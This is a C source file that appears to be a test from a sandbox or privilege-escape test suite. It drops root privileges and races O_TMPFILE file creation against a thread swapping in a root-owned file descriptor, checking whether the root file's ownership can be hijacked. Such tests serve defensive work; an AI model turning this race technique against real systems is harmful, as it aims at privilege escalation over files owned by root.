/* SPDX-License-Identifier: LGPL-3.0-or-later */
/*
 * One who gave up root makes files without a name (O_TMPFILE), which are his, while a thread of
 * his puts a file of root's under the number that the new one has got.
 * ATTACK OPTIONS: -0
 * ATTACK BROKEN: JUDGED
 */
#include "escape.h"

static int roots, number;

static void *exchange(void *data)
{
	(void)data;
	for (unsigned int i = 0;; i++) {
		(void)dup2(roots, number);
		linger(i % 7 * 500);
		(void)close(number);
		linger(i % 5 * 500);
	}
	return NULL;
}

static void race_all(void)
{
	struct race race = { 0 };
	struct stat info;
	unsigned long made = 0;

	if (syscall(SYS_setresgid, 1000, 1000, 1000) < 0 ||
	    syscall(SYS_setresuid, 1000, 1000, 1000) < 0)
		broken("setresuid");
	number = dup(0);
	start(exchange, NULL);
	while (racing_until(&race, made > 100)) {
		int fd = open("mine", O_TMPFILE | O_RDWR, 0666);

		made += fd >= 0;
		(void)close(fd);
		if (fstat(roots, &info) < 0 || info.st_uid != 0)
			escaped("root's file belongs to %u after %lu", info.st_uid, race.rounds);
	}
	_exit(0);
}

int main(void)
{
	pid_t pid;

	enter_scratch();
	make_file("roots", "root's");
	if (mkdir("mine", 0755) < 0 || chown("mine", 1000, 1000) < 0 || chmod(".", 0755) < 0)
		broken("mkdir");
	roots = open("roots", O_RDONLY);
	if (roots < 0)
		broken("open");
	pid = fork();
	if (pid == 0)
		race_all();
	join(pid);
	contained();
}
